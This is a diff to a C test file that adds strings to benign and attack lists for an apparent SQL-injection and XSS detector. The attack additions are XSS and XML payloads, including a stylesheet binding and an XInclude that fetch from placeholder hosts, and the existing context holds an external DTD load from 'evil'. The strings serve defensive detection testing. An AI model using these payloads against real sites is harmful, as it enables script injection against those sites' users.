@@ -221,6 +221,24 @@ static const char *const sqli_benign[] = {
 	"D'Angelo-Smith",
 	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
 	"https://example.com/search?q=1+or+2",
+	/* prose from changelogs that fooled earlier versions */
+	"Add \"--with-lint\" configure flag",
+	"putenv() string must contain '='",
+	"The script `examples/misc/cshtobash' is a",
+	"benchmark (1.6.1-1) unstable; urgency=medium",
+	"and status != 1 at line 1070",
+	"\"ALTER TABLE RENAME\" command",
+	"2. ALTER TABLE uses double-quotes",
+	"used inside ' and \"",
+	"fixed \"||\" should be \"&&\".",
+	"The fix is in the addition of \"&& followfork < 2\" condition.",
+	"genfile and tar in exec mode",
+	"t4216: use an '&&'-chain",
+	"starts with the line \"#",
+	"Cope with a menu with many items\" -- sorry it took so long.",
+	"and EXP(a) < EXP(b)",
+	"Declare `marker';",
+	"If `yes' is passed and uchardet is not found",
 	NULL,
 };
 
@@ -342,6 +360,10 @@ static const char *const xss_attacks[] = {
 	"<x onmycustomevent=alert(1)>",
 	"<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
 	"<?import implementation =",
+	"<meta charset=\"UTF-7\">",
+	"<OBJECT data =",
+	"<STYLE>BODY{-moz-binding:url(\"http://x/x.xml#xss\")}</STYLE>",
+	"<acp xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://x/\"/></acp>",
 	"<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil/x.dtd\">%x;]>",
 	/* from inside an attribute value or a tag */
 	"\" onmouseover=\"alert(1)",
@@ -412,6 +434,12 @@ static const char *const xss_benign[] = {
 	"<img/src=1/onerror=alert(1)>",
 	"<a href=\"http://66.102.7.147/\">XSS</a>",
 	"<scripts>",
+	"attribute of the <object>. Use gtk_buildable_get_name()",
+	"url.<base>.insteadOf",
+	"<?xml version=\"1.0\" encoding=\"utf-8\"?>",
+	"<html xmlns=\"http://www.w3.org/1999/xhtml\" lang=\"en\">",
+	"HTML <style> and boolean attributes",
+	"<FRAMESET> pages",
 	NULL,
 };
 
